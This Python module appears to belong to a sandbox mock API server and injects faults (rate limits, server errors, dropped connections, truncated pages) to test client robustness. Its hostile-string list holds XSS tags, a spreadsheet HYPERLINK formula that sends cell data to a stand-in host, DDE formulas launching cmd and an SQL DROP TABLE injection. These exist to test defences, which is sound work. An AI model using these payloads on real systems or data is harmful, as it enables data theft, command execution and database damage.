"""Fault injection. Request-level faults (429s, 5xx, dropped connections, latency, rate limits) are
an ASGI middleware in front of every data request; page-level faults (truncated JSON, a missing
required key) are applied where list pages are rendered (``page_response``). Hostile strings
(``hostile_strings``) rewrite the JSON answers of data requests on their way out."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import math
import random

from fastapi.responses import JSONResponse, Response
from starlette.datastructures import Headers
from starlette.types import ASGIApp, Receive, Scope, Send

from incydr_sandbox.auth import bearer_token
from incydr_sandbox.rand import parse_indexed_id
from incydr_sandbox.state import SandboxState

KSAT_PREFIXES = ("/v1/users", "/v1/groups", "/v1/account")
# The key removed from the first item of a page by missing_key_every, per kind of page.
REQUIRED_KEYS = {"sessions": "lastUpdated", "alerts": "createdAt", "actors": "actorId", "rules": "id",
                 "events": "@timestamp", "ksat_users": "id", "ksat_groups": "id",
                 "watchlists": "watchlistId", "watchlist_members": "actorId"}


# --- hostile strings ------------------------------------------------------------------------------
# With hostile_strings on, one in three values of these keys (chosen by a hash of the value, so an
# actor's name is rewritten the same way in sessions, alerts and actor lookups) gets one of these
# prefixes, and the exfiltrationSummary of every session with index = 420 (mod 1000) is 1 MiB long.
HOSTILE_PAYLOADS = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.invalid/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DROP TABLE code42_session;--",
    "quotes \" ' ` and \\ backslash -- /* */ ;",
    "ctl \x00\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\t\r\n\u2028\u2029 end",
    "\u202eexe.pdf\u202c <img src=x onerror=alert(2)> &amp; &lt;b&gt; \U0001f600 e\u0301",
)
HOSTILE_KEYS = frozenset({"actorName", "actor", "name", "firstName", "lastName", "department", "title",
                          "contextSummary", "exfiltrationSummary", "ruleName", "description", "content"})
BIG_FIELD_CHARS = 1 << 20
BIG_SESSION_EVERY, BIG_SESSION_AT = 1000, 420
_BIG_FIELD = ("".join(HOSTILE_PAYLOADS) * (BIG_FIELD_CHARS // 200 + 1))[:BIG_FIELD_CHARS]


def hostile_value(value: str) -> str:
    h = int.from_bytes(hashlib.sha256(value.encode()).digest()[:4], "big")
    return value if h % 3 else f"{HOSTILE_PAYLOADS[h // 3 % len(HOSTILE_PAYLOADS)]} {value}"


def make_hostile(data):
    """``data`` (a parsed JSON answer) with the hostile strings in."""
    if isinstance(data, list):
        return [make_hostile(v) for v in data]
    if not isinstance(data, dict):
        return data
    out = {k: hostile_value(v) if k in HOSTILE_KEYS and isinstance(v, str) else make_hostile(v)
           for k, v in data.items()}
    parsed = parse_indexed_id(str(data.get("sessionId", ""))) if "exfiltrationSummary" in data else None
    if parsed is not None and parsed[0] % BIG_SESSION_EVERY == BIG_SESSION_AT:
        out["exfiltrationSummary"] = _BIG_FIELD
    return out


def _hostile_sender(send: Send) -> Send:
    """Buffers the answer; a 200 JSON body goes out rewritten by ``make_hostile``."""
    start: dict = {}
    chunks: list[bytes] = []

    async def hostile_send(message) -> None:
        if message["type"] == "http.response.start":
            start.update(message)
            return
        if message["type"] != "http.response.body":
            await send(message)
            return
        chunks.append(message.get("body", b""))
        if message.get("more_body"):
            return
        body, headers = b"".join(chunks), list(start.get("headers", []))
        if start.get("status") == 200 and b"json" in dict(headers).get(b"content-type", b""):
            with contextlib.suppress(ValueError):  # a truncated page (malformed_every) stays truncated
                body = json.dumps(make_hostile(json.loads(body))).encode()
            headers = [(k, v) for k, v in headers if k.lower() != b"content-length"]
            headers.append((b"content-length", str(len(body)).encode()))
        await send({**start, "headers": headers})
        await send({"type": "http.response.body", "body": body})

    return hostile_send


def is_data_path(path: str) -> bool:
    return path.startswith(("/v1/", "/v2/")) and path != "/v1/oauth"


def _status_body(status: int) -> bytes:
    titles = {429: "Too Many Requests", 500: "Internal Server Error", 502: "Bad Gateway",
              503: "Service Unavailable", 504: "Gateway Timeout"}
    return json.dumps({"type": "about:blank", "title": titles.get(status, "Error"), "status": status,
                       "detail": f"sandbox fault: HTTP {status}"}).encode()


class FaultMiddleware:
    """Counts every request and decides, before the route runs, whether a data request fails."""

    def __init__(self, app: ASGIApp, state: SandboxState) -> None:
        self.app, self.state = app, state

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        statuses: list[int] = []

        async def counting_send(message) -> None:
            if message["type"] == "http.response.start":
                statuses.append(message["status"])
            await send(message)

        try:
            if is_data_path(scope["path"]):
                await self._data_request(scope, receive, counting_send)
            else:
                await self.app(scope, receive, counting_send)
        finally:
            self._count(scope, statuses[0] if statuses else None)

    async def _data_request(self, scope: Scope, receive: Receive, send: Send) -> None:
        state, f = self.state, self.state.faults
        n, fail_status, drop = state.next_data_request()
        if f.latency_ms:
            await asyncio.sleep(f.latency_ms / 1000)
        if not drop and fail_status is None and state.take_stall():
            await asyncio.sleep(f.stall_ms / 1000)
        if drop:
            state.count("dropped")
            await self._drop(scope, send)
            return
        status, retry_after = fail_status, f.retry_after if fail_status == 429 else None
        if status is None and f.fail_429_every and n % f.fail_429_every == 0:
            status, retry_after = 429, f.retry_after
        if status is None:
            wait = self._rate_limited(scope)
            if wait is not None:
                status, retry_after = 429, wait
        if status is None and f.fail_5xx_rate:
            roll = random.Random(f"{state.config.tenant.seed}/5xx/{n}")
            if roll.random() < f.fail_5xx_rate:
                status = roll.choice((503, 503, 500))
        if status is None:
            await self.app(scope, receive, _hostile_sender(send) if f.hostile_strings else send)
            return
        headers = [(b"content-type", b"application/problem+json")]
        if retry_after is not None:
            headers.append((b"retry-after", str(max(1, math.ceil(retry_after))).encode()))
        await send({"type": "http.response.start", "status": status, "headers": headers})
        await send({"type": "http.response.body", "body": _status_body(status)})

    def _rate_limited(self, scope: Scope) -> float | None:
        state, f = self.state, self.state.faults
        token = bearer_token(Headers(scope=scope))
        if scope["path"].startswith(KSAT_PREFIXES):
            wait = state.over_limit(f"ksat/{token}", f.ksat_rate_limit_per_sec, 1.0)
            if wait is not None:
                return wait
            client = f"ksat/{token}"
        else:  # per API client: all of a client's tokens share its budget
            client = state.tokens.client_of(token) or f"token/{token[-16:]}"
        return state.over_limit(client, f.rate_limit_per_min, 60.0)

    async def _drop(self, scope: Scope, send: Send) -> None:
        """Close the connection without answering. Without access to the connection (e.g. under an
        in-process test client), promise a body, send part of it and fail instead."""
        connection = self.state.find_connection(tuple(scope.get("client") or ()))
        if connection is not None:
            connection.transport.close()
            cycle = getattr(connection, "cycle", None)
            for _ in range(50):  # let the server notice, so that it does not try to answer either
                if cycle is None or cycle.disconnected:
                    break
                await asyncio.sleep(0)
            return
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"application/json"), (b"content-length", b"100000")]})
        await send({"type": "http.response.body", "body": b'{"items": [', "more_body": True})
        raise ConnectionAbortedError("sandbox drop_next fault")

    def _count(self, scope: Scope, status: int | None) -> None:
        route = scope.get("route")
        path = getattr(route, "path", None) or scope["path"]
        with self.state.lock:
            self.state.stats["requests"] += 1
            self.state.by_path[f"{scope['method']} {path}"] += 1
            if status is not None:
                self.state.by_status[status] += 1
                if status == 429:
                    self.state.stats["n_429"] += 1
                elif status >= 500:
                    self.state.stats["n_5xx"] += 1


def page_response(state: SandboxState, kind: str, body: dict | list, items: list,
                  clock_moved: bool = False) -> Response:
    """A list page, with the malformed_every / missing_key_every faults applied to every Nth page
    (``clock_moved``: the page was computed at ``state.page_clock()``, which moved the clock already)."""
    n = state.next_page(advance=not clock_moved)
    f = state.faults
    if f.malformed_every and n % f.malformed_every == 0:
        state.count("malformed")
        text = json.dumps(body)
        return Response(text[: max(len(text) // 2, 1)], media_type="application/json")
    if f.missing_key_every and n % f.missing_key_every == 0 and items:
        state.count("missing_key")
        items[0] = {k: v for k, v in items[0].items() if k != REQUIRED_KEYS[kind]}
    return JSONResponse(body)
